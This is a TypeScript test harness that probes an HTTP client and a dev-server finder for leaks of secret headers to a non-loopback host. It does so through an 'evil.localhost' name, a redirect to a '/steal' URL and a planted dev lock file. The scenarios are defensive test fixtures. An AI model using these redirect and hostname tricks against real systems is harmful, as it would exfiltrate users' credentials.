// Run by hostileHosts.test.ts inside a private network namespace (test/support/privateNet.ts) whose
// /etc/hosts the test wrote. Two HTTP listeners share one port: the "remote" one on 192.0.2.1 (another
// machine as far as the loopback check knows) and a local one on 127.0.0.1. Each scenario records what
// the remote listener saw (connections, request lines, secret headers); the JSON report is printed last.
import { promises as dns } from 'node:dns';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { devLockPath, findDevServer } from '../../src/core/http/devServer';
import { executeRequest } from '../../src/core/http/executor';
import type { RequestResult } from '../../src/core/http/types';
import { REMOTE_ADDRESS } from '../support/privateNet';

interface Seen {
  connections: number;
  requests: string[];
}

function listener(host: string, port: number, seen: Seen, local: boolean): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    seen.requests.push(`${req.method} ${req.url} authorization=${req.headers.authorization ?? ''} x-api-key=${req.headers['x-api-key'] ?? ''}`);
    const hop = /^\/hop\/(.+)$/.exec(req.url ?? '');
    if (local && hop) res.writeHead(302, { location: decodeURIComponent(hop[1]) }).end();
    else res.end(local ? 'local' : 'remote');
  });
  server.on('connection', () => seen.connections++);
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve(server));
  });
}

const secrets = [
  { name: 'Authorization', value: 'Bearer s3cret' },
  { name: 'X-Api-Key', value: 'k3y' },
];

function outcome(r: RequestResult): { ok: boolean; kind?: string; message?: string; status?: number; body?: string } {
  return r.ok ? { ok: true, status: r.status, body: new TextDecoder().decode(r.body) } : { ok: false, kind: r.kind, message: r.message };
}

async function main(): Promise<void> {
  const mode = process.argv[2];
  const remote: Seen = { connections: 0, requests: [] };
  const local: Seen = { connections: 0, requests: [] };
  const far = await listener(REMOTE_ADDRESS, 0, remote, false);
  const port = (far.address() as net.AddressInfo).port;
  const near = await listener('127.0.0.1', port, local, true);
  const report: Record<string, unknown> = { port };
  /** Runs one scenario and records what each listener saw during it. */
  const scenario = async (name: string, run: () => Promise<unknown>): Promise<void> => {
    const r0 = { connections: remote.connections, requests: remote.requests.length };
    const l0 = local.requests.length;
    const result = await run();
    report[name] = { result, remote: { connections: remote.connections - r0.connections, requests: remote.requests.slice(r0.requests) }, local: local.requests.slice(l0) };
  };

  // What the system resolver answers here: the precondition of the attack.
  for (const name of ['localhost', 'evil.localhost']) {
    report[`resolver:${name}`] = await dns.lookup(name, { all: true }).then((a) => a.map((x) => x.address), (e: NodeJS.ErrnoException) => e.code);
  }
  // Control: the remote listener is reachable and records, so "it saw nothing" below means something.
  await scenario('control', async () => outcome(await executeRequest({ method: 'GET', url: `http://${REMOTE_ADDRESS}:${port}/control`, headers: secrets }, {}, { policy: { allowNonLoopback: true } })));

  const target = mode === 'evil' ? 'evil.localhost' : 'localhost';
  await scenario('direct', async () => outcome(await executeRequest({ method: 'GET', url: `http://${target}:${port}/direct`, headers: secrets })));
  await scenario('redirect', async () => outcome(await executeRequest({
    method: 'GET',
    url: `http://127.0.0.1:${port}/hop/${encodeURIComponent(`http://${target}:${port}/steal`)}`,
    headers: secrets,
    followRedirects: true,
  })));

  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'bff-hostile-'));
  try {
    const app = { root, distDir: '.next' };
    // The probe of bffRoutes.baseUrl, by name and as a literal remote address.
    await scenario('probe-name', () => findDevServer(app, { baseUrl: `http://${target}:${port}`, probeTimeoutMs: 2000 }));
    await scenario('probe-literal', () => findDevServer(app, { baseUrl: `http://${REMOTE_ADDRESS}:${port}`, probeTimeoutMs: 2000 }));
    // The probe of a dev lock the repository ships (its pid is a live one: ours).
    fs.mkdirSync(path.dirname(devLockPath(app)), { recursive: true });
    fs.writeFileSync(devLockPath(app), JSON.stringify({ pid: process.pid, port, hostname: REMOTE_ADDRESS, appUrl: `http://${REMOTE_ADDRESS}:${port}`, startedAt: 1 }));
    await scenario('probe-lock', () => findDevServer(app, { probeTimeoutMs: 2000 }));
    // With the user setting on, the literal remote address is probed (the control of the probe).
    fs.rmSync(devLockPath(app));
    await scenario('probe-allowed', () => findDevServer(app, { baseUrl: `http://${REMOTE_ADDRESS}:${port}`, probeTimeoutMs: 2000, policy: { allowNonLoopback: true } }));
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
  await new Promise<void>((r) => far.close(() => r()));
  await new Promise<void>((r) => near.close(() => r()));
  process.stdout.write(`${JSON.stringify(report)}\n`);
}

main().catch((err: unknown) => {
  process.stderr.write(`${err instanceof Error ? err.stack : String(err)}\n`);
  process.exit(1);
});
